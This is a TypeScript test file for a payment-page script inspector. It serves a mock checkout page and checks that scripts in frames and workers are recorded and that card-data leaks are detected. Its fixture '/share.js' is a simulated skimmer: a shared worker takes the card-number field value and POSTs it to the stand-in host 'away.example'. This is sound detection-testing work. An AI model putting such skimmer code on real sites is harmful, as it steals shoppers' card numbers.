import { mkdtemp, rm } from 'node:fs/promises';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { openBrowser } from '#engines/browser/open-browser.ts';
import type { Browser } from '#engines/browser/types.ts';
import { systemClock, systemRandom } from '#engines/clock/system-clock.ts';
import { openJourneys } from '#engines/journeys/open-journeys.ts';
import { goldenInspection } from '../../checks/golden-inspection.ts';
import { paymentScripts } from '../../checks/payment/payment-scripts.ts';
import { type PaymentPage, scriptKey } from '../../inspection.ts';
import { collectPaymentPage } from './collect-payment-page.ts';

vi.setConfig({ testTimeout: 60_000 });

let folder: string;
let browser: Browser;
let server: Server;
let port: number;
let page: PaymentPage;
const posted: string[] = [];

const files = (at: (name: string) => string): Readonly<Record<string, string>> => ({
  '/checkout': `<!doctype html><input autocomplete="cc-number"><iframe src="${at('help.example')}/help.html"></iframe>
    <iframe src="${at('js.stripe.com')}/card.html"></iframe>
    <script src="/shop.js"></script>`,
  '/shop.js': `new Worker('/work.js'); navigator.serviceWorker.register('/serve.js');
    new Worker(URL.createObjectURL(new Blob(['/* from a text */ self.made = 1;'])));
    const shared = new SharedWorker('/share.js'); shared.port.start();
    document.querySelector('input').addEventListener('change', (e) => shared.port.postMessage(e.target.value));`,
  '/work.js': `fetch('${at('early.example')}/first', { mode: 'no-cors' });`,
  '/serve.js': `self.addEventListener('install', () => self.skipWaiting());`,
  '/share.js': `onconnect = ({ ports: [port] }) => { port.onmessage = (e) => { fetch('${at('away.example')}/taken', { method: 'POST', mode: 'no-cors', body: btoa(e.data) }); const x = new XMLHttpRequest(); x.open('POST', '${at('away.example')}/again'); x.send(e.data); }; };`,
  '/help.html': `<!doctype html><script>window.helped = 1;</script><script src="/helper.js"></script>`,
  // Asks for itself once more, as what tries again does.
  '/helper.js': "window.helper = 2; fetch('/helper.js');",
  '/card.html': `<!doctype html><script>window.release = ${'7'.repeat(9)};</script><script src="/v3.js"></script>`,
  '/v3.js': 'new Worker("/stripe-worker.js");',
  '/stripe-worker.js': 'self.theirs = 3;',
});

beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), 'shopbell-places-'));
  browser = openBrowser({ cacheFolder: folder, lookup: async () => ['127.0.0.1'] });
  server = createServer((request, response) => {
    const path = (request.url ?? '').split('?')[0] ?? '';
    if (request.method === 'POST') posted.push(`${request.headers.host}${path}`);
    const body = files((name) => `http://${name}:${port}`)[path];
    response.setHeader('content-type', path.endsWith('.js') ? 'text/javascript' : 'text/html');
    response.end(body ?? '');
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  port = (server.address() as AddressInfo).port;
  const shop = new URL(`http://shop.localhost:${port}/`);
  const outside = { browser, journeys: openJourneys(browser), random: systemRandom, clock: systemClock };
  const got = await collectPaymentPage(outside, { shop, url: `${shop.href}checkout`, allowPrivate: true, controlled: true });
  if (got.kind === 'unknown') throw new Error(got.reason);
  page = got.value;
});

afterAll(async () => {
  await browser.close();
  server.closeAllConnections();
  await new Promise((resolve) => server.close(resolve));
  await rm(folder, { recursive: true, force: true });
});

const scriptAt = (path: string) => page.scripts.find(({ url }) => url.endsWith(path));
const origin = (name: string) => `http://${name}:${port}`;

describe('code that runs beside the payment page', () => {
  it('is recorded in frames of other sites, with hash, size and the place', () => {
    const inFrame = page.scripts.filter(({ runsIn }) => runsIn?.url === `${origin('help.example')}/help.html`);
    expect(inFrame.map(({ party }) => party).sort()).toEqual(['inline', 'third']);
    expect(scriptAt('/helper.js')).toMatchObject({ runsIn: { kind: 'frame' }, bytes: 39, hash: expect.stringMatching(/^[0-9a-f]{64}$/) });
    expect(scriptAt('/shop.js')?.runsIn).toBeUndefined();
  });

  it('is recorded in workers of every kind, with whoever made them', () => {
    const shop = `${origin('shop.localhost')}/shop.js`;
    expect(scriptAt('/work.js')).toMatchObject({ party: 'first', runsIn: { kind: 'worker' }, parent: shop });
    expect(scriptAt('/share.js')).toMatchObject({ party: 'first', runsIn: { kind: 'shared worker' } });
    expect(scriptAt('/serve.js')).toMatchObject({ party: 'first', runsIn: { kind: 'service worker' } });
    const made = page.scripts.filter(({ runsIn }) => runsIn?.url === `blob:${origin('shop.localhost')}`);
    expect(made).toMatchObject([{ party: 'eval', runsIn: { kind: 'worker' }, parent: shop }]);
    expect(Object.values(page.sources).some((source) => source.includes('from a text'))).toBe(true);
  });

  it('is a payment provider’s in its frame, and one script by its origin whatever the provider puts into it', () => {
    const theirs = page.scripts.filter(({ party }) => party === 'provider');
    expect(theirs.length).toBeGreaterThanOrEqual(3);
    expect([...new Set(theirs.map(scriptKey))]).toEqual([`provider:${origin('js.stripe.com')}`]);
  });

  it('of a provider is told once, as new, and never again for what the provider changes', () => {
    const [one] = page.scripts.filter(({ party }) => party === 'provider');
    if (one === undefined) throw new Error('nothing of a provider');
    const key = scriptKey(one);
    const known = (keys: readonly string[]) => ({
      ...{ scripts: keys.map((name) => ({ key: name, hash: '0'.repeat(64), party: 'provider' as const })) },
      hosts: page.hosts.map(({ host }) => host),
    });
    const only = { ...page, scripts: page.scripts.filter(({ party }) => party === 'provider') };
    const judged = (keys: readonly string[]) =>
      paymentScripts.judge(goldenInspection({ payment: { kind: 'got', value: only }, authorised: known(keys) })).weaknesses;
    expect(judged(['other']).map(({ key: name }) => name)).toEqual([key]);
    expect(judged([key])).toEqual([]);
  });

  it('is heard when it sends: first requests of workers, what shared workers take, and nothing that changes data gets out', () => {
    expect(page.hosts.map(({ host }) => host)).toEqual(expect.arrayContaining([`early.example:${port}`, `away.example:${port}`]));
    expect(page.leaks).toEqual(
      expect.arrayContaining([
        expect.objectContaining({
          field: 'card',
          host: `away.example:${port}`,
          channel: 'shared worker',
          script: `${origin('shop.localhost')}/share.js`,
        }),
      ]),
    );
    expect(posted).toEqual([]);
  });
});
